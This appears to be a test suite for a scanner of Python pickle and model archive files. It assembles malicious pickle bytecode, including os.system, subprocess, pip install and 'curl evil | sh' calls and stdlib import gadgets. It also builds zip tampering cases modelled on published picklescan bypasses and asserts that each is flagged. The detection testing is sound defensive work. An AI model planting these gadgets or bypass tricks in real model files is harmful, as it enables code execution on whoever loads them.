import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { atOrAbove } from '../../src/scan/index.js';
import { withLocalName, zipArchive } from './helpers/archives.js';
import { P, scanBytes } from './helpers/scanBytes.js';

/** A call `module.name(arg)` in protocol 4 with STACK_GLOBAL. */
const call = (module: string, name: string, ...args: string[]): Buffer =>
  P.cat(P.proto(4), P.su(module), P.su(name), P.op(0x93, 0x28 /* MARK */), ...args.map((a) => P.su(a)), P.op('t', 'R', '.'));

async function worst(bytes: Buffer, name = 'x.bin'): Promise<string[]> {
  const r = await scanBytes(bytes, name);
  return r.findings.filter((f) => atOrAbove(f.severity, 'high')).map((f) => `${f.severity} ${f.rule}`);
}

describe('published scanner bypasses are detected (high or critical)', () => {
  it('pip.main (picklescan CVE-2025-1716)', async () => {
    assert.deepEqual(await worst(call('pip', 'main', 'install', 'evil-package')), ['critical pickle/dangerous-global']);
  });
  it('standard-library gadgets missing from denylists: bdb, pydoc, _io, cProfile, timeit, trace, idlelib', async () => {
    for (const [m, n] of [['bdb', 'Bdb'], ['pydoc', 'pipepager'], ['_io', 'FileIO'], ['cProfile', 'runctx'], ['timeit', 'repeat'], ['trace', 'Trace'], ['idlelib.run', 'exec'], ['lib2to3.pgen2.grammar', 'Grammar'], ['ensurepip', '_run_pip'], ['zipimport', 'zipimporter']]) {
      const w = await worst(call(m!, n!, 'x'));
      assert.ok(w.length > 0, `${m}.${n} not flagged`);
    }
  });
  it('third-party gadgets nobody listed: unknown function called with a string', async () => {
    assert.deepEqual(await worst(call('asdf.helpers', 'do_stuff', 'curl evil | sh')), ['high pickle/unknown-call-with-string']);
    assert.deepEqual(await worst(call('torch.utils.cpp_extension', 'load_inline', 'x', 'int main(){}')), ['critical pickle/dangerous-global']);
    assert.deepEqual(await worst(call('torch', 'load', '/tmp/other.pt')), ['critical pickle/dangerous-global']);
  });
  it('dotted attribute paths out of allowlisted modules (torch.serialization -> pickle.loads)', async () => {
    assert.deepEqual(await worst(call('torch.serialization', 'pickle.loads', 'x')), ['critical pickle/dangerous-global']);
    assert.deepEqual(await worst(call('collections', 'OrderedDict.__init__.__globals__', 'x')), ['critical pickle/dangerous-global']);
  });
  it('names assembled on the stack with DUP/MEMOIZE/GET and in frames', async () => {
    const frameLen = Buffer.alloc(8);
    const body = P.cat(P.su('subprocess'), P.op(0x94), P.op(0x32 /* DUP */, '0'), P.su('run'), P.op(0x94, 'h', 1, 'h', 0, 'h', 1, 0x93), P.su('id'), P.op(0x85, 'R', '.'));
    frameLen.writeBigUInt64LE(BigInt(body.length));
    assert.deepEqual(await worst(P.cat(P.proto(5), P.op(0x95), frameLen, body)), ['critical pickle/dangerous-global']);
  });
  it('zip member whose local header names another file (picklescan CVE-2025-1944)', async () => {
    const evil = call('os', 'system', 'id');
    const zip = withLocalName(zipArchive([{ name: 'archive/data.pkl', data: evil }]), 'archive/xxxx.pkl');
    assert.deepEqual((await worst(zip)).sort(), ['critical pickle/dangerous-global', 'high archive/header-mismatch']);
  });
  it('zip member flagged encrypted but stored in the clear (picklescan CVE-2025-1945)', async () => {
    const zip = zipArchive([{ name: 'archive/data.pkl', data: call('os', 'system', 'id'), flags: 0x1 }]);
    assert.deepEqual((await worst(zip)).sort(), ['critical pickle/dangerous-global', 'high archive/flag-tampering']);
  });
  it('zip whose central directory is broken: members are still found through local headers', async () => {
    const zip = zipArchive([
      { name: 'archive/version', data: Buffer.from('3\n') },
      { name: 'archive/data.pkl', data: call('os', 'system', 'id'), deflate: true },
      { name: 'archive/extra.pkl', data: call('subprocess', 'call', 'id') },
    ]);
    const broken = zip.subarray(0, zip.length - 22); // no end-of-central-directory record
    const r = await scanBytes(broken, 'model.pt');
    assert.ok(r.rules.includes('archive/unreadable'), JSON.stringify(r.findings));
    assert.equal(r.findings.filter((f) => f.rule === 'pickle/dangerous-global' && f.severity === 'critical').length, 2, JSON.stringify(r.findings));
  });
  it('payload after a first, harmless pickle (scanners that stop at the first STOP)', async () => {
    const benign = P.cat(P.proto(2), P.op('}', '.'));
    assert.ok((await worst(P.cat(benign, call('os', 'system', 'id')))).includes('critical pickle/dangerous-global'));
  });
  it('pickle with a model extension it is not (content decides, not the name)', async () => {
    for (const name of ['model.safetensors', 'model.onnx', 'weights.gguf', 'x.h5', 'README.md']) {
      assert.deepEqual(await worst(call('os', 'system', 'id'), name), ['critical pickle/dangerous-global'], name);
    }
  });
});

describe('no crying wolf on ordinary third-party objects', () => {
  it('keeps unknown classes and Cython reconstructors at medium', async () => {
    const cls = P.cat(P.proto(4), P.su('mypkg.colors'), P.su('Color'), P.op(0x93), P.su('red'), P.op(0x85, 'R', '.'));
    const pyx = P.cat(P.proto(4), P.su('sklearn.tree._tree'), P.su('__pyx_unpickle_Tree'), P.op(0x93), P.su('sklearn.tree._tree'), P.su('Tree'), P.op(0x93, 'J', 1, 2, 3, 4, 0x4e, 0x87, 'R', '.'));
    for (const b of [cls, pyx]) {
      const r = await scanBytes(b);
      assert.ok(r.findings.length > 0 && r.findings.every((f) => f.severity === 'medium'), JSON.stringify(r.findings));
    }
  });
  it('allows compiled regexes', async () => {
    assert.deepEqual((await scanBytes(P.cat(P.proto(2), P.global('re', '_compile'), P.binunicode('\\w+'), P.op('K', 32, 0x86, 'R', '.')))).findings, []);
  });
});

describe('numpy reconstruction helpers', () => {
  const ufunc = (mod: string, name: string): Buffer =>
    P.cat(P.proto(2), P.global('numpy.core', '_ufunc_reconstruct'), P.binunicode(mod), P.binunicode(name), P.op(0x86, 'R', '.'));
  it('accepts numpy ufuncs but flags _ufunc_reconstruct used as an import gadget', async () => {
    assert.deepEqual((await scanBytes(ufunc('numpy', 'log1p'))).findings, []);
    const viaObj = P.cat(P.proto(2), P.op('('), P.global('numpy.core', '_ufunc_reconstruct'), P.binunicode('posix'), P.binunicode('system'), P.op('o', '.'));
    assert.deepEqual(await worst(viaObj), ['critical pickle/dangerous-global']);
    assert.deepEqual(await worst(ufunc('os', 'system')), ['critical pickle/dangerous-global']);
    assert.deepEqual(await worst(ufunc('numpy', '__builtins__')), ['high pickle/dangerous-global']);
  });
  it('accepts RandomState reconstruction inside estimators', async () => {
    const rs = P.cat(P.proto(2), P.global('numpy.random._pickle', '__randomstate_ctor'), P.binunicode('MT19937'), P.global('numpy.random._pickle', '__bit_generator_ctor'), P.op(0x86, 'R', '.'));
    assert.deepEqual((await scanBytes(rs)).findings, []);
  });
});

describe('zip members a model writer never produces', () => {
  it('scans deflated members flagged as encrypted as plain data', async () => {
    const zip = zipArchive([{ name: 'archive/data.pkl', data: call('os', 'system', 'id'), deflate: true, flags: 0x1 }]);
    assert.deepEqual((await worst(zip)).sort(), ['critical pickle/dangerous-global', 'high archive/flag-tampering']);
  });
  it('ranks members compressed with methods it cannot open high', async () => {
    const zip = Buffer.from(zipArchive([{ name: 'evil.npy', data: Buffer.from('anything') }]));
    zip.writeUInt16LE(14, 8); // local header: LZMA
    zip.writeUInt16LE(14, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 10); // central directory: LZMA
    assert.deepEqual(await worst(zip), ['high archive/unsupported-compression']);
  });
});
